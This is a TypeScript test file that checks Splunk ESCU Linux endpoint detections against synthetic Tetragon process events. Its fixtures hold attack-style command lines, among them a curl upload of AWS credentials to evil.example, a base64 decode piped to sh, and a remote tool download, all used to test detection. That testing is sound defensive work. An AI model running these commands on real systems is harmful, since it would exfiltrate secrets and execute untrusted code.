import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ContentPack } from '../../../src/detections/content.js';
import { MacroLibrary } from '../../../src/spl/macros/macros.js';
import { ESCU_CORPUS_DIR } from '../../helpers.js';
import { packWith, processExec, rows } from './helpers.js';

/**
 * ESCU's Linux Endpoint.Processes detections (splunk/security_content 2024-10, read from ../shared, not copied
 * here) run verbatim with ESCU's macros over hand-written Tetragon process_exec events. The expected rows are
 * worked out by hand: Endpoint.Processes fills user, dest and the parent fields with "unknown" when the event
 * has none (these events carry no node_name, user or exec_id, so dest/user are "unknown" and process_guid is
 * null, which ESCU's fillnull_value=null turns into "null"), and firstTime/lastTime are rendered by
 * security_content_ctime ("%Y-%m-%dT%H:%M:%S", UTC).
 */
const present = existsSync(join(ESCU_CORPUS_DIR, 'searches.jsonl'));

function escu(): { searches: Map<string, string>; pack: ContentPack; macros: MacroLibrary } {
  const searches = new Map<string, string>();
  for (const l of readFileSync(join(ESCU_CORPUS_DIR, 'searches.jsonl'), 'utf8').trim().split('\n')) {
    const s = JSON.parse(l) as { name: string; search: string };
    searches.set(s.name, s.search);
  }
  const pack = packWith();
  const macros = new MacroLibrary().with(pack.macros.all());
  for (const l of readFileSync(join(ESCU_CORPUS_DIR, 'macros.jsonl'), 'utf8').trim().split('\n')) {
    const m = JSON.parse(l) as { name: string; arguments: string[] | null; definition: string };
    macros.define({ name: m.name.replace(/\(\d+\)$/, ''), args: m.arguments ?? [], definition: m.definition });
  }
  for (const name of searches.keys()) macros.defineDefault({ name: `${name.toLowerCase().replace(/[^a-z0-9]/g, '_')}_filter`, args: [], definition: 'search *' });
  return { searches, pack, macros };
}

const T = 1_700_000_000; // 2023-11-14T22:13:20Z
const bash = { binary: '/bin/bash', arguments: '-i', pid: 100 };
const EVENTS = [
  processExec(T, { binary: '/usr/sbin/useradd', arguments: '-m eve', pid: 101 }, bash),
  processExec(T + 60, { binary: '/usr/bin/curl', arguments: '-T /root/.aws/credentials https://evil.example/up', pid: 102 }, { binary: '/bin/sh', arguments: '-c x', pid: 99 }),
  processExec(T + 120, { binary: '/bin/bash', arguments: '-c "echo aGVsbG8= | base64 -d | sh"', pid: 103 }, { binary: '/usr/bin/python3', arguments: 'x.py', pid: 98 }),
  // An exit is not an execution: never counted.
  { _time: T + 121, sourcetype: 'cisco:isovalent', _raw: JSON.stringify({ process_exit: { process: { binary: '/usr/bin/curl', arguments: '-O https://x/tool', pid: 104 } } }) },
  processExec(T + 180, { binary: '/usr/bin/curl', arguments: '-O https://x/tool', pid: 105 }, bash),
  processExec(T + 240, { binary: '/usr/bin/sudo', arguments: 'su -', pid: 106 }, bash),
  processExec(T + 241, { binary: '/bin/su', arguments: '-', pid: 107 }, { binary: '/usr/bin/sudo', arguments: 'su -', pid: 106 }),
  ...['arp', 'ip', 'netstat', 'ss'].map((n, i) => processExec(T + 400 + i, { binary: `/usr/sbin/${n}`, arguments: '-a', pid: 108 + i }, bash)),
  processExec(T + 500, { binary: '/usr/bin/systemctl', arguments: 'start evil.service', pid: 112 }, bash),
];

const ctime = (t: number) => new Date(t * 1000).toISOString().slice(0, 19);

describe.skipIf(!present)('ESCU Linux Endpoint.Processes detections on Tetragon', () => {
  const { searches, pack, macros } = present ? escu() : ({} as ReturnType<typeof escu>);
  const run = (name: string) => rows({ ...pack, macros }, searches.get(name)!, EVENTS);

  it('Linux Add User Account (IN, OR, wildcards; process_guid null -> "null")', async () => {
    expect(await run('Linux Add User Account')).toEqual([
      { dest: 'unknown', user: 'unknown', parent_process_name: 'bash', process_name: 'useradd', process: '/usr/sbin/useradd -m eve', process_id: '101', parent_process_id: '100', process_guid: 'null', count: '1' },
    ]);
  });

  it('Linux Curl Upload File (IN ("a". "b") with a period between the values)', async () => {
    expect(await run('Linux Curl Upload File')).toEqual([
      {
        dest: 'unknown',
        user: 'unknown',
        parent_process_name: 'sh',
        process_name: 'curl',
        process: '/usr/bin/curl -T /root/.aws/credentials https://evil.example/up',
        process_id: '102',
        parent_process_id: '99',
        count: '1',
        firstTime: ctime(T + 60),
        lastTime: ctime(T + 60),
      },
    ]);
  });

  it('Linux Decode Base64 to Shell (linux_shells macro inside WHERE, then rex and where)', async () => {
    expect(await run('Linux Decode Base64 to Shell')).toEqual([
      {
        dest: 'unknown',
        user: 'unknown',
        parent_process_name: 'python3',
        process_name: 'bash',
        process: '/bin/bash -c "echo aGVsbG8= | base64 -d | sh"',
        process_id: '103',
        parent_process_id: '98',
        count: '1',
        firstTime: ctime(T + 120),
        lastTime: ctime(T + 120),
        decode_flag: '-d',
      },
    ]);
  });

  it('Linux Ingress Tool Transfer with Curl (process_exit not counted)', async () => {
    expect(await run('Linux Ingress Tool Transfer with Curl')).toEqual([
      { dest: 'unknown', user: 'unknown', parent_process_name: 'bash', process_name: 'curl', process: '/usr/bin/curl -O https://x/tool', process_id: '105', parent_process_id: '100', count: '1', firstTime: ctime(T + 180), lastTime: ctime(T + 180) },
    ]);
  });

  it('Linux Sudo OR Su Execution (OR of two IN lists, rows in BY order)', async () => {
    const common = { dest: 'unknown', user: 'unknown', process_guid: 'null', count: '1' };
    expect(await run('Linux Sudo OR Su Execution')).toEqual([
      { ...common, parent_process_name: 'bash', process_name: 'sudo', process: '/usr/bin/sudo su -', process_id: '106', parent_process_id: '100', firstTime: ctime(T + 240), lastTime: ctime(T + 240) },
      { ...common, parent_process_name: 'sudo', process_name: 'su', process: '/bin/su -', process_id: '107', parent_process_id: '106', firstTime: ctime(T + 241), lastTime: ctime(T + 241) },
    ]);
  });

  it('Linux System Network Discovery (_time span=30m first in BY, values, dc)', async () => {
    expect(await run('Linux System Network Discovery')).toEqual([
      {
        _time: '1699999200',
        dest: 'unknown',
        user: 'unknown',
        count: '4',
        process_name_list: ['arp', 'ip', 'netstat', 'ss'],
        process_list: ['/usr/sbin/arp -a', '/usr/sbin/ip -a', '/usr/sbin/netstat -a', '/usr/sbin/ss -a'],
        process_id_list: ['108', '109', '110', '111'],
        parent_process_id_list: '100',
        process_name_count: '4',
      },
    ]);
  });

  it('Linux Service Started Or Enabled (NOT over fields the event lacks)', async () => {
    expect(await run('Linux Service Started Or Enabled')).toEqual([
      {
        dest: 'unknown',
        user: 'unknown',
        parent_process_name: 'bash',
        process_name: 'systemctl',
        process: '/usr/bin/systemctl start evil.service',
        process_id: '112',
        parent_process_id: '100',
        process_guid: 'null',
        count: '1',
        firstTime: ctime(T + 500),
        lastTime: ctime(T + 500),
      },
    ]);
  });

  it('every one of the 78 Linux Endpoint.Processes searches runs (plans, scans, returns)', async () => {
    const linux = [...searches].filter(([name, s]) => /^Linux /.test(name) && /datamodel=Endpoint\.Processes/.test(s));
    expect(linux.length).toBe(78);
    for (const [name] of linux) await expect(run(name), name).resolves.toBeInstanceOf(Array);
  });
});
